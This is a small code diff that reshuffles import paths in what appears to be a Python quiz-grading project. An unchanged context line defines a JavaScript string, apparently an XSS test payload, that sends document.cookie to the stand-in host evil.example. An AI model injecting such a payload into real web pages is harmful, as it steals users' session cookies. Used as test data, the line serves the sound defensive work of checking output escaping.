@@ -10,10 +10,10 @@ from nbformat import v4
 from grader.build import QUIZ_SCORE, grade_id
 from grader.classroom import Classroom
 from grader.units import Unit
-from halfbits.numberline import number_line
-from halfbits.questions import mark_quiz
-from halfbits.quiz_report import score_view
-from halfbits.report import Report
+from halfbits.checking.report import Report
+from halfbits.pictures.numberline import number_line
+from halfbits.quizzes.questions import mark_quiz
+from halfbits.quizzes.quiz_report import score_view
 
 STEAL = "fetch('http://evil.example/?' + document.cookie); window.hacked = true"
 
